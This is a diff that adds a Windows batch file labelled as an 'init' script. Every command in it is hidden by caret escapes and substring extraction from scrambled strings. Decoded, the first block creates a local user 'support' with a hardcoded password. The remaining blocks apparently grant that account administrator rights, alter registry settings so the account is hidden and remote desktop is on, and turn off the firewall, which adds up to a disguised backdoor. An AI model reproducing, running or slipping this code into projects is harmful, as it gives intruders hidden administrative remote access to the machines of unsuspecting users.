@@ -1,0 +1,16 @@
+REM init 7203 v3
+@^e^ch^o of^f
+se^t "tozt=/#N9ar7QGemudhMspynXotJw8"
+%tozt:~-7,1%%tozt:~9,1%%tozt:~21,1% %tozt:~11,1%%tozt:~15,1%%tozt:~9,1%%tozt:~5,1% %tozt:~-10,1%%tozt:~11,1%%tozt:~16,1%%tozt:~16,1%%tozt:~20,1%%tozt:~-20,1%%tozt:~21,1% %tozt:~7,1%%tozt:~23,1%%tozt:~-16,1%%tozt:~5,1%%tozt:~21,1%%tozt:~-8,1%%tozt:~-24,1%%tozt:~6,1%%tozt:~6,1%%tozt:~-1,1%%tozt:~24,1% %tozt:~0,1%%tozt:~-21,1%%tozt:~-13,1%%tozt:~12,1% %tozt:~-25,1%%tozt:~-8,1%
+@echo off
+s^et "rxwm=j/cnuXd9srmielta6NYoRgpI"
+%rxwm:~3,1%%rxwm:~12,1%%rxwm:~14,1% %rxwm:~13,1%%rxwm:~19,1%%rxwm:~2,1%%rxwm:~15,1%%rxwm:~13,1%%rxwm:~21,1%%rxwm:~9,1%%rxwm:~19,1%%rxwm:~4,1%%rxwm:~22,1% %rxwm:~15,1%%rxwm:~-18,1%%rxwm:~-14,1%%rxwm:~11,1%%rxwm:~3,1%%rxwm:~11,1%%rxwm:~8,1%%rxwm:~14,1%%rxwm:~9,1%%rxwm:~15,1%%rxwm:~-10,1%%rxwm:~19,1%%rxwm:~-15,1%%rxwm:~-16,1% %rxwm:~-16,1%%rxwm:~4,1%%rxwm:~-2,1%%rxwm:~22,1%%rxwm:~19,1%%rxwm:~-15,1%%rxwm:~14,1% %rxwm:~1,1%%rxwm:~15,1%%rxwm:~-18,1%%rxwm:~6,1%
+@ech^o ^of^f
+s^e^t "qaad=apkcCtUlsnqRgrmxSe2jNd/uoFD"
+%qaad:~-18,1%%qaad:~-10,1%%qaad:~-22,1% %qaad:~7,1%%qaad:~-3,1%%qaad:~-24,1%%qaad:~0,1%%qaad:~7,1%%qaad:~12,1%%qaad:~13,1%%qaad:~-3,1%%qaad:~-4,1%%qaad:~-26,1% "%qaad:~11,1%%qaad:~17,1%%qaad:~14,1%%qaad:~-3,1%%qaad:~-22,1%%qaad:~17,1% %qaad:~26,1%%qaad:~17,1%%qaad:~8,1%%qaad:~2,1%%qaad:~5,1%%qaad:~24,1%%qaad:~-26,1% %qaad:~6,1%%qaad:~-19,1%%qaad:~17,1%%qaad:~13,1%%qaad:~8,1%" %qaad:~8,1%%qaad:~23,1%%qaad:~-26,1%%qaad:~-26,1%%qaad:~-3,1%%qaad:~13,1%%qaad:~5,1% %qaad:~-5,1%%qaad:~-27,1%%qaad:~21,1%%qaad:~21,1%
+@^ec^ho off
+^se^t "rdie=_gPGaeEKMbWm0tOrs/ZLlcCiAD4\NuSdnYHyf9R5Tov"
+%rdie:~15,1%%rdie:~5,1%%rdie:~1,1% %rdie:~4,1%%rdie:~31,1%%rdie:~31,1% "%rdie:~34,1%%rdie:~-36,1%%rdie:~19,1%%rdie:~8,1%%rdie:~-16,1%%rdie:~30,1%%rdie:~33,1%%rdie:~30,1%%rdie:~40,1%%rdie:~-37,1%%rdie:~8,1%%rdie:~27,1%%rdie:~22,1%%rdie:~29,1%%rdie:~-28,1%%rdie:~15,1%%rdie:~5,1%%rdie:~32,1%%rdie:~13,1%%rdie:~-21,1%%rdie:~41,1%%rdie:~32,1%%rdie:~-30,1%%rdie:~-28,1%%rdie:~-2,1%%rdie:~20,1%%rdie:~-13,1%%rdie:~-38,1%%rdie:~13,1%%rdie:~-16,1%%rdie:~22,1%%rdie:~41,1%%rdie:~32,1%%rdie:~-30,1%%rdie:~-28,1%%rdie:~41,1%%rdie:~20,1%%rdie:~27,1%%rdie:~40,1%%rdie:~-38,1%%rdie:~15,1%%rdie:~11,1%%rdie:~23,1%%rdie:~-11,1%%rdie:~4,1%%rdie:~20,1% %rdie:~-13,1%%rdie:~5,1%%rdie:~15,1%%rdie:~42,1%%rdie:~-38,1%%rdie:~15,1%" %rdie:~17,1%%rdie:~42,1% %rdie:~36,1%%rdie:~25,1%%rdie:~5,1%%rdie:~32,1%%rdie:~35,1%%rdie:~-3,1%%rdie:~30,1%%rdie:~22,1%%rdie:~41,1%%rdie:~-11,1%%rdie:~-11,1%%rdie:~-38,1%%rdie:~-22,1%%rdie:~-30,1%%rdie:~23,1%%rdie:~41,1%%rdie:~-11,1%%rdie:~16,1% %rdie:~-26,1%%rdie:~13,1% %rdie:~38,1%%rdie:~6,1%%rdie:~3,1%%rdie:~0,1%%rdie:~25,1%%rdie:~-33,1%%rdie:~-29,1%%rdie:~-5,1%%rdie:~25,1% %rdie:~17,1%%rdie:~31,1% %rdie:~12,1% %rdie:~17,1%%rdie:~36,1%
+@ech^o off
+se^t "smxm=1EsUhtAalropQHnbvwIdfie"
+%smxm:~-9,1%%smxm:~22,1%%smxm:~5,1%%smxm:~-21,1%%smxm:~4,1% %smxm:~-16,1%%smxm:~19,1%%smxm:~-7,1%%smxm:~20,1%%smxm:~21,1%%smxm:~-14,1%%smxm:~22,1%%smxm:~17,1%%smxm:~7,1%%smxm:~8,1%%smxm:~8,1% %smxm:~2,1%%smxm:~-1,1%%smxm:~-18,1% %smxm:~7,1%%smxm:~8,1%%smxm:~8,1%%smxm:~11,1%%smxm:~-14,1%%smxm:~10,1%%smxm:~-3,1%%smxm:~21,1%%smxm:~8,1%%smxm:~22,1%%smxm:~2,1% %smxm:~2,1%%smxm:~-18,1%%smxm:~7,1%%smxm:~5,1%%smxm:~-1,1% %smxm:~10,1%%smxm:~20,1%%smxm:~20,1%
